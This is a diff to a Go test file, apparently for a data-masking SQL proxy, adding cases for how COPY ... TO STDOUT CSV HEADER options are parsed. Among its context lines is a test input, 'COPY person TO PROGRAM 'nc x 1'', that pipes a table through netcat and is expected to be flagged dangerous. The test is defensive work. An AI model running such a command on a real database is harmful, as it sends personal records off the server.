@@ -550,6 +550,16 @@ func TestStatements(t *testing.T) {
 		{"COPY (SELECT id_card FROM person) TO STDOUT", "copy", flowTo(facts.ToFile, idCard)},
 		{"COPY person TO STDOUT", "copy", func(f *facts.Statement) bool { return flowTo(facts.ToFile, idCard)(f) && directOutput(2, idCard)(f) }},
 		{"COPY person (id_card) TO STDOUT", "copy", directOutput(0, idCard)},
+		// The row format as the server reads the options: a header only when
+		// HEADER is on, whatever the spelling (data taken for a header would
+		// be relayed unmasked).
+		{"COPY person (id_card) TO STDOUT (FORMAT csv, HEADER)", "copy", func(f *facts.Statement) bool { return f.CopyOut.Header }},
+		{"COPY person (id_card) TO STDOUT (FORMAT csv, HEADER 0)", "copy", func(f *facts.Statement) bool { return !f.CopyOut.Header }},
+		{"COPY person (id_card) TO STDOUT (FORMAT csv, HEADER 'off')", "copy", func(f *facts.Statement) bool { return !f.CopyOut.Header }},
+		{"COPY person (id_card) TO STDOUT (FORMAT csv, HEADER false)", "copy", func(f *facts.Statement) bool { return !f.CopyOut.Header }},
+		{"COPY person (id_card) TO STDOUT WITH CSV HEADER", "copy", func(f *facts.Statement) bool {
+			return f.CopyOut.Header && f.CopyOut.Format == "csv" && f.CopyOut.Delimiter == ',' && f.CopyOut.Unsupported == ""
+		}},
 		{"COPY person TO '/tmp/x'", "copy", dangerous("copy to server file/program")},
 		{"COPY person TO PROGRAM 'nc x 1'", "copy", dangerous("copy to server file/program")},
 		{"COPY audit FROM STDIN", "copy", unknownFlow(facts.ToTable)},
